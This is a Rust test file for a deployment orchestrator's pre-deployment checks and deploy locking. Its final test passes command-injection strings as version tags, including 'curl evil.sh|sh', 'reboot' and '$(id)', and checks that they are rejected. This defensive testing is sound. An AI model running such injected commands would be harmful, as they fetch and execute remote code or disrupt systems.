//! Pre-deployment checks and in-process mutual exclusion

mod common;

use std::time::Duration;

use tokio_test::assert_err;
use tokio_util::sync::CancellationToken;

use common::{config, Harness};
use cutover::deploy::fsm::DeploymentState;
use cutover::errors::DeployError;
use cutover::models::deployment::{DeployOptions, StepStatus};

#[tokio::test(start_paused = true)]
async fn test_full_disk_fails_before_any_command() {
    let h = Harness::new(config());
    for version in ["v1", "v2"] {
        h.orchestrator
            .deploy(version, DeployOptions::default())
            .await
            .unwrap();
    }
    h.runner.clear();
    *h.resources.disk_percent.lock().unwrap() = 95.0;

    let err = assert_err!(h.orchestrator.deploy("v3", DeployOptions::default()).await);
    assert!(matches!(err, DeployError::Resource(_)));
    assert!(err.is_precheck_class());

    assert!(h.runner.lines().is_empty());
    let status = h.orchestrator.get_status().await.unwrap();
    assert_eq!(status.state(), DeploymentState::Failed);
    assert_eq!(
        status.step("pre-deployment-checks").unwrap().status,
        StepStatus::Failed
    );
    assert_eq!(status.steps.len(), 1);

    // Nothing changed, so nothing is rolled back
    assert!(h.orchestrator.rollback_history().await.is_empty());
    assert_eq!(h.orchestrator.version_history().await, vec!["v1", "v2"]);
}

#[tokio::test(start_paused = true)]
async fn test_disk_above_warning_threshold_continues() {
    let h = Harness::new(config());
    *h.resources.disk_percent.lock().unwrap() = 85.0;

    h.orchestrator
        .deploy("v1", DeployOptions::default())
        .await
        .unwrap();

    let status = h.orchestrator.get_status().await.unwrap();
    assert_eq!(status.state(), DeploymentState::Completed);
    assert_eq!(
        status.warnings,
        vec!["disk usage 85.0% above warning threshold 80.0%".to_string()]
    );
}

#[tokio::test(start_paused = true)]
async fn test_memory_pressure_fails() {
    let h = Harness::new(config());
    *h.resources.memory_percent.lock().unwrap() = 97.5;

    let err = assert_err!(h.orchestrator.deploy("v1", DeployOptions::default()).await);
    assert!(matches!(err, DeployError::Resource(_)));
}

#[tokio::test(start_paused = true)]
async fn test_missing_environment_variable_fails() {
    let mut config = config();
    config.preflight.required_env = vec!["CUTOVER_TEST_NEVER_SET_DEPLOY_KEY".to_string()];
    let h = Harness::new(config);

    let err = assert_err!(h.orchestrator.deploy("v1", DeployOptions::default()).await);
    match err {
        DeployError::Configuration(message) => {
            assert!(message.contains("CUTOVER_TEST_NEVER_SET_DEPLOY_KEY"))
        }
        other => panic!("unexpected error {:?}", other),
    }
    assert!(h.runner.lines().is_empty());
}

#[tokio::test(start_paused = true)]
async fn test_missing_tool_fails() {
    let h = Harness::new(config());
    h.runner.fail_on("command -v kubectl");

    let err = assert_err!(h.orchestrator.deploy("v1", DeployOptions::default()).await);
    match err {
        DeployError::Configuration(message) => assert!(message.contains("kubectl")),
        other => panic!("unexpected error {:?}", other),
    }
    assert_eq!(h.runner.count("docker build"), 0);
}

#[tokio::test(start_paused = true)]
async fn test_registry_login_reads_password_from_environment() {
    let mut config = config();
    config.registry.username = Some("ci".to_string());
    config.registry.password_env = Some("CUTOVER_TEST_REGISTRY_PASSWORD".to_string());
    std::env::set_var("CUTOVER_TEST_REGISTRY_PASSWORD", "s3cret");
    let h = Harness::new(config);

    h.orchestrator
        .deploy("v1", DeployOptions::default())
        .await
        .unwrap();

    let commands = h.runner.commands.lock().unwrap().clone();
    let login = commands
        .iter()
        .find(|c| c.line.starts_with("docker login"))
        .unwrap();
    assert_eq!(login.line, "docker login registry.local -u ci --password-stdin");
    assert_eq!(login.stdin.as_deref(), Some("s3cret"));
    assert!(commands.iter().all(|c| !c.line.contains("s3cret")));
}

#[tokio::test(start_paused = true)]
async fn test_missing_registry_password_fails() {
    let mut config = config();
    config.registry.username = Some("ci".to_string());
    config.registry.password_env = Some("CUTOVER_TEST_NEVER_SET_PASSWORD".to_string());
    let h = Harness::new(config);

    let err = assert_err!(h.orchestrator.deploy("v1", DeployOptions::default()).await);
    assert!(matches!(err, DeployError::Configuration(_)));
}

#[tokio::test(start_paused = true)]
async fn test_concurrent_deploy_is_rejected() {
    let h = Harness::new(config());
    h.runner.never_ready("api");

    let token = CancellationToken::new();
    let orchestrator = h.orchestrator.clone();
    let first_token = token.clone();
    let first = tokio::spawn(async move {
        orchestrator
            .deploy_with_cancel("v1", DeployOptions::default(), first_token)
            .await
    });

    loop {
        if let Some(status) = h.orchestrator.get_status().await {
            if status.state() == DeploymentState::Deploying {
                break;
            }
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(h.orchestrator.in_progress().await.len(), 1);

    let err = assert_err!(h.orchestrator.deploy("v2", DeployOptions::default()).await);
    match &err {
        DeployError::DeploymentInProgress(message) => assert!(message.contains("v1 is deploying")),
        other => panic!("unexpected error {:?}", other),
    }

    token.cancel();
    let err = first.await.unwrap().unwrap_err();
    assert!(err.is_cancelled());

    // Cancellation is not a reason to roll back
    assert!(h.orchestrator.rollback_history().await.is_empty());
    assert!(h.orchestrator.in_progress().await.is_empty());
    let history = h.orchestrator.get_history(10).await;
    assert_eq!(history.len(), 2);
    assert!(history.iter().all(|s| s.state() == DeploymentState::Failed));
}

#[tokio::test(start_paused = true)]
async fn test_deploys_overlapping_in_prechecks_are_exclusive() {
    let h = Harness::new(config());
    // Both runs are still pending while the tool lookup is in flight
    h.runner.slow_on("command -v", Duration::from_millis(500));

    let spawn_deploy = |version: &'static str| {
        let orchestrator = h.orchestrator.clone();
        tokio::spawn(async move { orchestrator.deploy(version, DeployOptions::default()).await })
    };
    let first = spawn_deploy("v1");
    let second = spawn_deploy("v2");
    let results = [first.await.unwrap(), second.await.unwrap()];

    assert_eq!(results.iter().filter(|r| r.is_ok()).count(), 1);
    let rejected = results.iter().find_map(|r| r.as_ref().err()).unwrap();
    assert!(matches!(rejected, DeployError::DeploymentInProgress(_)));

    assert_eq!(h.runner.count("docker build"), 1);
    assert_eq!(h.runner.count("docker push"), 1);
    assert!(h.orchestrator.rollback_history().await.is_empty());
    assert!(h.orchestrator.in_progress().await.is_empty());
}

#[tokio::test(start_paused = true)]
async fn test_dry_run_does_not_hold_the_deploy_slot() {
    let h = Harness::new(config());
    h.runner.slow_on("command -v", Duration::from_millis(500));

    let orchestrator = h.orchestrator.clone();
    let preview = tokio::spawn(async move {
        orchestrator
            .deploy(
                "v1",
                DeployOptions {
                    dry_run: true,
                    ..DeployOptions::default()
                },
            )
            .await
    });
    tokio::task::yield_now().await;

    h.orchestrator
        .deploy("v2", DeployOptions::default())
        .await
        .unwrap();
    assert_eq!(h.orchestrator.version_history().await, vec!["v2"]);
    let _ = preview.await.unwrap();
}

#[tokio::test(start_paused = true)]
async fn test_version_outside_tag_grammar_runs_nothing() {
    let h = Harness::new(config());

    for version in ["v1 && curl evil.sh|sh #", "v1;reboot", "$(id)", ".v1", ""] {
        let err = assert_err!(h.orchestrator.deploy(version, DeployOptions::default()).await);
        match &err {
            DeployError::Configuration(message) => assert!(message.contains("not a valid image tag")),
            other => panic!("unexpected error {:?}", other),
        }
    }

    assert!(h.runner.lines().is_empty());
    assert!(h.orchestrator.rollback_history().await.is_empty());
    let status = h.orchestrator.get_status().await.unwrap();
    assert_eq!(status.state(), DeploymentState::Failed);
    assert_eq!(
        status.step("pre-deployment-checks").unwrap().status,
        StepStatus::Failed
    );
    assert_eq!(status.steps.len(), 1);
}
